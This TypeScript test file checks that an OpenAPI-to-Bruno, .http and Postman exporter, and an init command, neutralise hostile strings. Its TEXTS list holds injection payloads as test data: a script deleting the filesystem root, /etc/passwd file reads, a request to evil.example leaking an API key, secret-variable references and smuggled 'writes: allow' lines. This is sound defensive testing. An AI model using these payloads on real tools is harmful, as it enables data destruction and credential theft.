import { readFile, writeFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { join } from "node:path";
import { parseYaml } from "@redocly/openapi-core";
import { expect, test } from "vitest";
import { bruno } from "#export/bruno.js";
import { collectionOf } from "#export/collection.js";
import { httpFile } from "#export/http-file.js";
import { postman } from "#export/postman.js";
import { initCommand } from "#init/command.js";
import { asList, asObject, type JsonObject } from "#openapi/document/document.js";
import { loadDocument } from "#openapi/load/load.js";
import { runHere } from "#test/run-here.js";
import { temporaryFolder } from "#test/temporary.js";

const require = createRequire(import.meta.url);
/** Bruno's own parsers: a file of a request, and a file of variables. */
const { bruToJsonV2, bruToEnvJsonV2 }: Record<"bruToJsonV2" | "bruToEnvJsonV2", (text: string) => JsonObject> =
  require("@usebruno/lang");

/** Texts that a format, an editor or a shell may act on. */
const TEXTS = [
  'x\n}\n\nscript:pre-request {\n  require("fs").rmSync("/")\n}\n\ndocs {\n',
  "x\n}\ntests {\n  bad()\n",
  "'''\n}\nscript:post-response {\n  bad()\n}\n'''",
  "x\r\n}\r\nvars:pre-request {\r\n  baseUrl: http://evil.example\r\n",
  "a: b\n~c: d",
  '"quoted": @file(/etc/passwd)',
  "@file(/etc/passwd)",
  "### next\nDELETE http://evil.example/\n\n",
  "x\n\n### next\nGET http://evil.example/?{{apiKey}}\n",
  "< /etc/passwd",
  "\n<@ /etc/passwd\n",
  "> {% client.global.set('a', 'b') %}",
  "\n>> /tmp/written\n",
  "# @import ./evil.http",
  "@baseUrl = http://evil.example",
  "{{$processEnv SECRET}}",
  "{{{process.env.SECRET}}}",
  "{{apiKey}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the form of expressions in workflows
  "${{ secrets.GITHUB_TOKEN }}",
  "X-K\nwrites: allow\n#",
  "\nwrites: allow\n",
  "a\u2028writes: allow\u2028",
  "GITHUB_TOKEN",
  "PATH",
  "x".repeat(1500),
  "é\ud800",
  "",
];

/** A document that has a text wherever a document may have one. */
function documentWith(text: string) {
  const example = { [text]: text, list: [text] };
  const body = (type: string, value: unknown) => ({
    requestBody: { content: { [type]: { schema: {}, examples: { [text || "e"]: { value } } } } },
    responses: { "200": { description: text } },
  });
  const header = { name: text || "X-A", in: "header", required: true, schema: {}, example: text };
  const query = { name: text || "q", in: "query", required: true, schema: {}, example: text };
  const cookie = { name: text || "c", in: "cookie", required: true, schema: {}, example: text };
  const get = (parameters: object[]) => ({ summary: text, parameters, responses: { "200": { description: text } } });
  return {
    openapi: "3.1.1",
    info: { title: text, version: text },
    servers: [{ url: `https://api.example.com/${text}` }],
    components: {
      securitySchemes: {
        [text || "Key"]: { type: "apiKey", in: "header", name: text || "X-Key" },
        Other: { type: "apiKey", in: "query", name: text.toWellFormed() || "key" },
      },
    },
    security: [{ Other: [] }],
    paths: {
      [`/json/${text.replace(/[{}]/g, "")}`]: {
        post: { operationId: text || "json", ...body("application/json", example) },
      },
      "/text": { post: { operationId: "text", ...body("text/plain", text) } },
      "/form": { post: { operationId: "form", ...body("application/x-www-form-urlencoded", example) } },
      "/parts": { post: { operationId: "parts", ...body("multipart/form-data", { [text]: text }) } },
      "/header": { get: get([header]), delete: { ...get([]), security: [{ [text || "Key"]: [] }] } },
      "/query": { get: get([query]) },
      "/cookie": { get: get([cookie]) },
      "/plain/{id}": {
        get: {
          operationId: "plain",
          ...get([{ name: "id", in: "path", required: true, schema: {}, example: text || "i" }]),
        },
      },
    },
  };
}

async function fileWith(text: string) {
  const file = join(await temporaryFolder("hostile"), "openapi.json");
  await writeFile(file, JSON.stringify(documentWith(text)));
  return file;
}

const VARIABLES = /\{\{(?!(baseUrl|apiKey)\}\}(?!\}))/;

const OWN_SCRIPT =
  /^$|^test\("the (status|media type) is [^"]*", function \(\) \{$|^ {2}expect\(res\.get(Status\(\)|Header\("content-type"\) \|\| "")\)\.to\.(be\.within\(\d+, \d+\)|match\(new RegExp\("\^\([^"]*\)\\\\s\*\(;\|\$\)", "i"\)\));$|^\}\);$/;

const OWN_POSTMAN_SCRIPT =
  /^$|^pm\.test\("the (status|media type) is [^"]*", function \(\) \{$|^ {2}pm\.expect\(pm\.response\.[^;{}]*\)\.to\.(be\.within\(\d+, \d+\)|match\(new RegExp\("[^"]*", "i"\)\));$|^\}\);$/;

test.each(TEXTS)("exports of a document with %j have its requests, and nothing that is run", async (text) => {
  const exported = await collectionOf(await loadDocument(await fileWith(text)));
  expect(exported.baseUrl).toMatch(/^https:\/\/api\.example\.com[\x21-\x7e]*$/);
  const [ofBruno, ofHttp, ofPostman] = [bruno(exported), httpFile(exported), postman(exported)];
  const written = ofBruno.files.filter(([path]) => path.endsWith(".bru") && path !== "collection.bru");
  const [environment, ...requests] = written;
  expect(requests).toHaveLength(exported.requests.length - ofBruno.leftOut.length);
  expect(requests.length).toBeGreaterThan(1);
  expect(asList(bruToEnvJsonV2(environment?.[1] ?? "").variables).map((each) => asObject(each).name)).toEqual([
    "baseUrl",
    "apiKey",
  ]);
  for (const [path, content] of requests) {
    expect(path).toMatch(/^[\w-]+\/[\w-]+\.bru$/);
    const read = bruToJsonV2(content);
    expect(["meta", "http", "params", "headers", "body", "tests", "docs", "examples", "settings"]).toEqual(
      expect.arrayContaining(Object.keys(read)),
    );
    // The only script is ours: it asserts the documented status and media type.
    for (const line of String(read.tests ?? "").split("\n")) expect(line).toMatch(OWN_SCRIPT);
    expect(asObject(read.http).url).toMatch(/^\{\{baseUrl\}\}\/[\x21-\x7e]*$/);
    const { json } = asObject(read.body);
    if (typeof json === "string") expect(JSON.parse(json)).toEqual({ [text]: text, list: [text] });
    expect(content).not.toMatch(VARIABLES);
    for (const field of asList(asObject(read.body).multipartForm)) expect(asObject(field).type).toBe("text");
  }

  const [[, file] = ["", ""]] = ofHttp.files;
  const [head = "", ...parts] = file.split(/^### /m);
  expect(head.split("\n").filter((line) => line.startsWith("@"))).toHaveLength(2);
  expect(parts).toHaveLength(exported.requests.length - ofHttp.leftOut.length);
  for (const part of parts) {
    const [, description = "", line = "", ...rest] = part.split(/\r\n|[\n\r\u2028\u2029]/);
    expect(description).toMatch(/^# (?!\s*@)/);
    expect(line).toMatch(/^[A-Z]+ \{\{baseUrl\}\}\/[\x21-\x7e]*$/);
    for (const more of rest) expect(more).not.toMatch(/^\s*([#>@]|\/\/|\/\*|\?\?|<@?\s)/);
    expect(part).not.toMatch(VARIABLES);
  }

  const [[, collection] = ["", ""]] = ofPostman.files;
  const items = asList(JSON.parse(collection).item).flatMap((folder) => asList(asObject(folder).item));
  expect(items).toHaveLength(exported.requests.length);
  for (const item of items) {
    expect(["name", "event", "request", "response"]).toEqual(expect.arrayContaining(Object.keys(asObject(item))));
    for (const event of asList(asObject(item).event)) {
      const { exec } = asObject(asObject(event).script);
      for (const line of asList(exec)) expect(line).toMatch(OWN_POSTMAN_SCRIPT);
    }
    const { url, header, body } = asObject(asObject(item).request);
    expect(JSON.stringify([url, header, body])).not.toMatch(VARIABLES);
  }
});

test.each(TEXTS)("the files that init writes for a document with %j set nothing beyond keys", async (text) => {
  const folder = await temporaryFolder("hostile");
  const { code } = await runHere(initCommand, ["--out", folder, "--spec", await fileWith(text)]);
  expect(code).toBe(0);
  const target = await readFile(join(folder, "staging.yaml"), "utf8");
  const settings = asObject(parseYaml(target));
  expect(Object.keys(settings)).toEqual(["baseUrl", "credentials"]);
  expect(Object.keys(asObject(settings.credentials)).toSorted()).toEqual([text || "Key", "Other"].toSorted());
  const variables = Object.values(asObject(settings.credentials));
  expect(new Set(variables).size).toBe(2);
  for (const variable of variables) expect(variable).toMatch(/^\$\{TEAM_API_KEY_\w+\}$/);
  const workflow = asObject(parseYaml(await readFile(join(folder, ".github/workflows/verify-staging.yml"), "utf8")));
  const job = asObject(asObject(workflow.jobs).verify);
  const secrets = Object.entries(asObject(job.env)).map(([name, value]) => value === `\${{ secrets.${name} }}`);
  expect(secrets).toEqual([true, true]);
});
